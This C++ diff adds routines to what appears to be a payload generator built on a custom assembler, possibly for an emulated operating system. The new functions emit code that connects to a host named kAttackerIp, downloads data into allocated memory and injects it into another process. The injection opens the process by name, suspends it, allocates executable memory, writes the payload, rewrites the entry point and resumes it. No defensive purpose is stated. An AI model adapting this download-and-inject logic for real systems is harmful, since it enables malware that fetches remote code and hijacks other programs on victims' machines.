@@ -22,6 +22,14 @@ void emit_connect(Assembler& a, u32 ip, u16 port) {
   emit_sys(a, Sys::kNtConnect);
 }
 
+void emit_bind(Assembler& a, u16 port) {
+  emit_sys(a, Sys::kNtSocket);
+  a.mov(Reg::R10, Reg::R0);
+  a.mov(Reg::R1, Reg::R10);
+  a.movi(Reg::R2, port);
+  emit_sys(a, Sys::kNtBind);
+}
+
 void emit_send_label(Assembler& a, const std::string& data_label, u32 len) {
   a.mov(Reg::R1, Reg::R10);
   a.movi_label(Reg::R2, data_label);
@@ -41,6 +49,72 @@ void emit_alloc_self(Assembler& a, u32 len, u32 prot) {
   a.movi(Reg::R2, len);
   a.movi(Reg::R3, prot);
   emit_sys(a, Sys::kNtAllocateVirtualMemory);
+}
+
+void emit_download(Assembler& a, const std::string& request, u32 cap,
+                   bool connect) {
+  if (connect) emit_connect(a, kAttackerIp, kAttackerPort);
+  emit_send_label(a, "req", static_cast<u32>(request.size()));
+  emit_alloc_self(a, cap, os::kProtRead | os::kProtWrite);
+  a.mov(Reg::R9, Reg::R0);
+  emit_recv(a, Reg::R9, cap);
+  a.mov(Reg::R8, Reg::R0);
+}
+
+void emit_request_data(Assembler& a, const std::string& request) {
+  emit_data_str(a, "req", request, /*nul_terminate=*/false);
+}
+
+void emit_copy_loop(Assembler& a) {
+  a.movi(Reg::R4, 0);
+  a.label("copy_loop");
+  a.cmp(Reg::R4, Reg::R8);
+  a.bgeu("copy_done");
+  a.add(Reg::R5, Reg::R9, Reg::R4);
+  a.ld8(Reg::R7, Reg::R5, 0);
+  a.add(Reg::R5, Reg::R6, Reg::R4);
+  a.st8(Reg::R5, 0, Reg::R7);
+  a.addi(Reg::R4, Reg::R4, 1);
+  a.jmp("copy_loop");
+  a.label("copy_done");
+}
+
+void emit_remote_inject(Assembler& a, bool suspend, bool pc_relative) {
+  if (pc_relative) {
+    a.addpc_label(Reg::R1, "target");
+  } else {
+    a.movi_label(Reg::R1, "target");
+  }
+  emit_sys(a, Sys::kNtOpenProcessByName);
+  a.mov(Reg::R7, Reg::R0);
+  if (suspend) {
+    a.mov(Reg::R1, Reg::R7);
+    emit_sys(a, Sys::kNtSuspendProcess);
+  }
+  a.mov(Reg::R1, Reg::R7);
+  a.movi(Reg::R2, 4096);
+  a.movi(Reg::R3, os::kProtRead | os::kProtWrite | os::kProtExec);
+  emit_sys(a, Sys::kNtAllocateVirtualMemory);
+  a.mov(Reg::R6, Reg::R0);
+  a.mov(Reg::R1, Reg::R7);
+  a.mov(Reg::R2, Reg::R6);
+  a.mov(Reg::R3, Reg::R9);
+  a.mov(Reg::R4, Reg::R8);
+  emit_sys(a, Sys::kNtWriteVirtualMemory);
+  a.mov(Reg::R1, Reg::R7);
+  a.mov(Reg::R2, Reg::R6);
+  emit_sys(a, Sys::kNtSetEntryPoint);
+  if (suspend) {
+    a.mov(Reg::R1, Reg::R7);
+    emit_sys(a, Sys::kNtResumeProcess);
+  }
+}
+
+void emit_data_str(Assembler& a, const std::string& label,
+                   const std::string& text, bool nul_terminate) {
+  a.align(8);
+  a.label(label);
+  a.data_str(text, nul_terminate);
 }
 
 void emit_export_walk(Assembler& a, const std::string& prefix,
